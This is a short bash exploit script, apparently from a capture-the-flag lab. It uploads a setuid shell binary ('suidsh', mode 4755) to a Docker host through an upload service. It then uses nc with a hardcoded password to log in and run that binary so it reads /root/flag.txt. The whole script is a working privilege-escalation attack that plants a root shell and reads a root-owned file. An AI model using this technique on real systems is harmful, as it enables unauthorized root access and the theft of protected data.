#!/bin/bash
# Through the upload service a program with the setuid bit comes onto the Docker host's disk; there dev runs it.
set -euo pipefail

curl --silent --show-error --max-time 10 --header 'X-Mode: 4755' --data-binary @/usr/local/lib/helpers/suidsh 'http://dockerhost:8080/upload?name=suidsh'
printf '%s\n' 'Hafen-2019' '/srv/uploads/suidsh cat /root/flag.txt' | nc -N -w 5 dockerhost 2222
